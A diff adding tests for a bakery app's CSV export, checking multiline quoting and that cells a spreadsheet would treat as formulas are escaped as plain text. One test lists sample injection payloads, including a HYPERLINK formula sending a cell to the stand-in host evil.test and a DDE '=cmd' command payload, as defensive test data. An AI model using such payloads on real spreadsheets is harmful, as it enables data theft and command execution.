@@ -1,7 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import type { FastifyReply } from 'fastify';
 import { AppError } from '@bakery/contracts';
-import { sendCsv } from './csv';
+import { inertText, sendCsv } from './csv';
 import { drawTable, heading, paperOf, sendPdf } from './pdf-document';
 
 /** Records what is answered the way Fastify's reply is used: status, headers, one body. */
@@ -72,5 +72,36 @@ describe('sendCsv', () => {
     expect(headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(headers['content-disposition']).toBe('attachment; filename="run-sheet-2026-12-02.csv"');
     expect(body().toString('utf8')).toBe('\ufeffStop,Business\r\n1,"Crumb, ""the"" bakery"\r\n2,\r\n');
+  });
+
+  it('quotes a cell over several lines, whichever line end it has', () => {
+    const { res, body } = fakeResponse();
+    sendCsv(res, 'run-sheet.csv', ['Stop', 'Instructions'], [[1, 'Back door\nRing twice'], [2, 'Gate\rcode 12'], [3, 'Yard\r\nLeft']]);
+    expect(body().toString('utf8')).toBe('\ufeffStop,Instructions\r\n1,"Back door\nRing twice"\r\n2,"Gate\rcode 12"\r\n3,"Yard\r\nLeft"\r\n');
+  });
+
+  it('writes text a spreadsheet would run as a formula as plain text, and numbers as numbers', () => {
+    const { res, body } = fakeResponse();
+    const attacks = ['=HYPERLINK("https://evil.test/?"&A1,"Back door")', "=cmd|' /C calc'!A0", '+44 20 7946 0000', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
+    sendCsv(res, 'run-sheet.csv', ['Instructions', 'Figure'], [...attacks.map((a) => [a, -12.5]), ['Back door = yard', 0]]);
+    const lines = body().toString('utf8').replace(/^\ufeff/, '').split('\r\n');
+    expect(lines.slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""https://evil.test/?""&A1,""Back door"")",-12.5`,
+      `'=cmd|' /C calc'!A0,-12.5`,
+      `'+44 20 7946 0000,-12.5`,
+      `'-2+3,-12.5`,
+      `'@SUM(A1:A2),-12.5`,
+      `'\t=1+1,-12.5`,
+      `"'\r=1+1",-12.5`,
+      `'\uFF1D1+1,-12.5`,
+      'Back door = yard,0',
+    ]);
+  });
+});
+
+describe('inertText', () => {
+  it('leaves text that starts with anything else as it is', () => {
+    for (const text of ['Back door', '020 7946 1000', '', ' =1', 'Crumb & Co']) expect(inertText(text)).toBe(text);
+    expect(inertText('=1')).toBe("'=1");
   });
 });
